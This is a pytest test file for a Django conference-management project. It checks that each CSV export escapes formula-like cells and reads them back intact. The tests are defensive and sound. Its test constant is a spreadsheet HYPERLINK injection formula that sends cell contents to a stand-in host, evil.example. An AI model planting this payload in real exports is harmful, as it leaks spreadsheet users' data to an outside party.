"""The one CSV writer: formula-like cells are neutralised, in every CSV export of the project."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from openigf.community.importers import parse_recommendations
from openigf.core.csvexport import csv_cell, csv_text, csv_unescape
from openigf.programme import domain as programme
from openigf.registration.domain import register
from openigf.review import domain as review
from tests.community.factories import RecommendationFactory
from tests.factories import (
    EditionFactory,
    ForumFactory,
    PersonFactory,
    mag_member_of,
    secretariat_of,
)
from tests.programme.factories import RoomFactory, SessionFactory, windows
from tests.proposals.factories import CallFactory, ProposalFactory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
SAFE = "'" + FORMULA


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("a=b", "a=b"), ("", ""),
    (None, ""), (-3, -3), (2.5, 2.5),
])
def test_csv_cell_neutralises_formula_starts_only(value, written):
    assert csv_cell(value) == written


def test_csv_unescape_reads_back_what_was_written():
    for value in ("=1+1", "-a list item", "'quoted", "plain", "@x"):
        assert csv_unescape(csv_cell(value)) == value


def test_csv_text_writes_header_and_rows():
    assert csv_text(["a", "b"], [[1, "=x"], [None, "y,z"]]) == "a,b\r\n1,'=x\r\n,\"y,z\"\r\n"


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = response.getvalue() if response.streaming else response.content  # files stream
    return list(csv.reader(io.StringIO(body.decode())))


def cell(rows, column):
    return [row[rows[0].index(column)] for row in rows[1:]]


@pytest.fixture
def edition(db):
    return EditionFactory(forum=ForumFactory(slug="igf"), year=2019)


def test_public_proposals_csv_neutralises_a_formula_title(client, edition):
    ProposalFactory(call=CallFactory(edition=edition), title=FORMULA, status="submitted")
    rows = rows_of(client.get(reverse("proposals:csv", kwargs=edition.url_kwargs)))
    assert cell(rows, "title") == [SAFE]


def test_registrations_csv_neutralises_a_formula_name(client, edition):
    register(edition=edition, person=PersonFactory(name=FORMULA, organisation="@evil"))
    client.force_login(secretariat_of(edition.forum))
    rows = rows_of(client.get(reverse("registration:csv", kwargs=edition.url_kwargs)))
    assert (cell(rows, "name"), cell(rows, "organisation")) == ([SAFE], ["'@evil"])


def test_review_assignments_csv_neutralises_a_formula_title(client, edition):
    proposal = ProposalFactory(call=CallFactory(edition=edition), title=FORMULA,
                               status="screened_in")
    round_ = review.round_save(edition=edition, opens_at=timezone.now(),
                               closes_at=timezone.now() + datetime.timedelta(days=3),
                               reviews_per_proposal=1, by_theme=False)
    review.assignment_set(round_=round_, proposal=proposal,
                          reviewer=mag_member_of(edition, name="-Minus"), assigned=True)
    client.force_login(secretariat_of(edition.forum))
    rows = rows_of(client.get(reverse("review:csv", kwargs=edition.url_kwargs)))
    assert (cell(rows, "proposal_title"), cell(rows, "reviewer_name")) == ([SAFE], ["'-Minus"])


def published_session(edition, title):
    windows(edition, days=1)
    session = SessionFactory(edition=edition, title=title)
    programme.session_place(session=session, starts_at=edition.time_windows.first().starts_at,
                            room=RoomFactory(edition=edition))
    programme.release_publish(edition=edition)
    return session


def test_report_compliance_csv_neutralises_a_formula_title(client, edition):
    published_session(edition, FORMULA)
    client.force_login(secretariat_of(edition.forum))
    rows = rows_of(client.get(reverse("reporting:compliance", kwargs=edition.url_kwargs),
                              {"format": "csv"}))
    assert cell(rows, "title") == [SAFE]


def test_programme_csv_export_neutralises_a_formula_title(client, edition):
    published_session(edition, FORMULA)
    rows = rows_of(client.get(reverse("programme:export",
                                      kwargs={**edition.url_kwargs, "fmt": "csv"})))
    assert cell(rows, "title") == [SAFE]


def test_improvements_csv_neutralises_formulas_and_reads_back_the_same(client, edition):
    RecommendationFactory(forum=edition.forum, text=FORMULA, remark="- see annex")
    body = client.get(f"/{edition.forum.slug}/community/improvements.csv")
    rows = rows_of(body)
    assert (cell(rows, "recommendation"), cell(rows, "remark")) == ([SAFE], ["'- see annex"])
    [row] = parse_recommendations(body.content)
    assert (row["text"], row["remark"]) == (FORMULA, "- see annex")
